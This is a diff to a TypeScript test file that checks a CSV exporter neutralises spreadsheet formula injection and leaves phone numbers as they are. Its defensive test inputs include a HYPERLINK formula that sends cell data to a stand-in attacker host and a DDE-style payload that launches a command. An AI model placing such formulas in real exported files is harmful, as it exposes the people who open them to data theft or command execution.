@@ -1,7 +1,7 @@
 import { parse } from "csv-parse/sync";
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
-import { CSV_BOM, csvCell, csvLine } from "./csv.ts";
+import { CSV_BOM, csvCell, csvLine, formulaLike } from "./csv.ts";
 import { attachmentDisposition, cvFileName } from "./attachment.ts";
 
 /** Read back as Excel would (semicolons, quotes, CRLF), by a parser that is not ours. */
@@ -15,17 +15,22 @@ describe("CSV for Excel in Russian", () => {
   });
 
   it("neutralises cells a spreadsheet would run as formulas (OWASP: = + - @ tab CR), leading spaces included", () => {
-    for (const hostile of ['=HYPERLINK("https://evil.example/?d="&A1,"Нажмите")', "+7 912", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1+1", "\n=1"]) {
+    for (const hostile of ['=HYPERLINK("https://evil.example/?d="&A1,"Нажмите")', "+7 912+A1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1+1", "\n=1", "+7 912\n=1"]) {
       expect(csvCell(hostile), JSON.stringify(hostile)).toBe(`"'${hostile.replace(/"/g, '""')}"`);
     }
     for (const harmless of ["Анна", "a=b", "1-2", "mail@example.com", ""]) expect(csvCell(harmless)).toBe(`"${harmless}"`);
+  });
+
+  it("writes phone numbers as they are, without the mark: digits and separators call nothing", () => {
+    for (const phone of ["+79161234567", "+7 (912) 345-67-89", "+44 20 7946 0958", "8 912 345-67-89"]) expect(csvCell(phone)).toBe(`"${phone}"`);
   });
 
   it("reads back every value it writes, with the mark added only to formula-like ones", () => {
     fc.assert(
       fc.property(fc.array(fc.string({ unit: "binary" }), { minLength: 1, maxLength: 6 }), (cells) => {
         const [row] = readBack(CSV_BOM + csvLine(cells));
-        expect(row).toEqual(cells.map((cell) => (/^\s*[=+\-@]|^[\t\r]/.test(cell) ? `'${cell}` : cell)));
+        expect(row).toEqual(cells.map((cell) => (formulaLike(cell) ? `'${cell}` : cell)));
+        for (const cell of cells) if (/^\s*[=@]|^[\t\r]/.test(cell)) expect(formulaLike(cell), JSON.stringify(cell)).toBe(true);
       }),
       { numRuns: 300 },
     );
